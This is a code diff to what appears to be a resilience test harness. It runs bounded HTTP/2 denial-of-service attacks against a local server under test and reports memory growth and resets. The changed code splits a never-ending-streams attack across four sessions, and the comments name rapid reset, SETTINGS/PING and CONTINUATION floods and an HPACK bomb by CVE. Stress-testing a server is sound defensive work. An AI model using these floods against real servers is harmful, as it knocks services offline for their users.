@@ -1,5 +1,5 @@
 // Phase 4: HTTP/2 abuse on the AWS port (h2c), each attack bounded in time and bytes: many
-// streams whose bodies never end, rapid reset (HEADERS then RST_STREAM, CVE-2023-44487), SETTINGS
+// streams whose bodies never end (on a few sessions), rapid reset (HEADERS then RST_STREAM, CVE-2023-44487), SETTINGS
 // and PING floods from a peer that never reads (CVE-2019-9515, -9512), a CONTINUATION flood
 // (CVE-2024-27983), one huge header, an HPACK bomb (a dynamic-table entry referenced thousands of
 // times), a zero flow-control window under many requests, and many sessions at once. Reported per
@@ -47,16 +47,29 @@ function ending(conn, startedMs) {
 }
 
 const ATTACKS = {
-  /** HEADERS and one DATA byte on 20,000 streams, never ended: each holds a request open. */
-  async openStreams({ port, track, untilMs, authority }) {
+  /**
+   * HEADERS and one DATA byte on 5,000 streams on each of 4 sessions, never ended: each holds a
+   * request open. Reported: how many the server took (not reset) and what they cost it.
+   */
+  async openStreams({ port, track, untilMs, authority, server }) {
     const t0 = Date.now();
-    const conn = await connect(port, track);
-    let id = 1;
+    const rss0 = server.rssBytes();
     const block = awsRequestBlock(authority, 'Kinesis_20131202.PutRecord', { 'content-length': '100' });
-    const streams = await pump(conn, () => (id > 40_000 ? null : Buffer.concat(Array.from({ length: 100 }, () => [frame(TYPE.HEADERS, FLAG.END_HEADERS, id, block), frame(TYPE.DATA, 0, (id += 2) - 2, Buffer.from('{'))]).flat())), untilMs, 64 << 20);
+    const conns = [];
+    let sent = 0;
+    for (let s = 0; s < 4 && Date.now() < untilMs; s++) {
+      const conn = await connect(port, track);
+      conns.push(conn);
+      let id = 1;
+      await pump(conn, () => (id > 10_000 ? null : Buffer.concat(Array.from({ length: 100 }, () => [frame(TYPE.HEADERS, FLAG.END_HEADERS, id, block), frame(TYPE.DATA, 0, (id += 2) - 2, Buffer.from('{'))]).flat())), untilMs, 16 << 20);
+      sent += Math.floor((id - 1) / 2);
+    }
     await sleep(Math.min(1000, Math.max(0, untilMs - Date.now())));
-    const out = { streamsOpened: Math.floor((id - 1) / 2), bytesSent: streams, ...ending(conn, t0) };
-    conn.destroy();
+    const resets = conns.reduce((n, c) => n + c.resets, 0);
+    const held = sent - resets;
+    const grew = (server.rssBytes() ?? 0) - (rss0 ?? 0);
+    const out = { sessions: conns.length, streamsOpened: sent, streamsResetByServer: resets, streamsHeld: held, rssGrowthMB: Math.round(grew / 1e5) / 10, bytesPerHeldStream: held > 0 ? Math.round(grew / held) : null, goaways: conns.filter((c) => c.goaway !== null).map((c) => H2_ERRORS[c.goaway] ?? c.goaway), closedByServer: conns.filter((c) => c.closedAt !== null).length };
+    for (const c of conns) c.destroy();
     return out;
   },
 
@@ -186,7 +199,7 @@ export async function h2Abuse({ server, deadline, track }) {
     const rssBefore = server.rssBytes();
     const from = Date.now();
     try {
-      attacks[names[i]] = await ATTACKS[names[i]]({ port: server.port, track, untilMs, authority });
+      attacks[names[i]] = await ATTACKS[names[i]]({ port: server.port, track, untilMs, authority, server });
     } catch (err) {
       attacks[names[i]] = { attackerError: String(err?.stack ?? err).slice(0, 300) };
     }
@@ -194,6 +207,7 @@ export async function h2Abuse({ server, deadline, track }) {
     attacks[names[i]].window = [from, Date.now()]; // the report takes the normal client's calls in it
     if (!server.alive()) break;
   }
-  const requests = Object.values(attacks).reduce((n, a) => n + (a.streamsOpened ?? 0) + (a.pairsSent ?? 0) + (a.framesSent ?? 0) + (a.continuationFrames ?? 0) + (a.requests ?? 0) + (a.sessions ?? 0) + (a.headerBytes === undefined ? 0 : 1) + (a.decodedBytesClaimed === undefined ? 0 : 1), 0);
+  const tried = (a) => (a.streamsOpened ?? 0) + (a.pairsSent ?? 0) + (a.framesSent ?? 0) + (a.continuationFrames ?? 0) + (a.requests ?? 0) + (a.streamsOpened === undefined ? (a.sessions ?? 0) : 0) + (a.headerBytes === undefined ? 0 : 1) + (a.decodedBytesClaimed === undefined ? 0 : 1);
+  const requests = Object.values(attacks).reduce((n, a) => n + tried(a), 0);
   return { requests, attacks };
 }
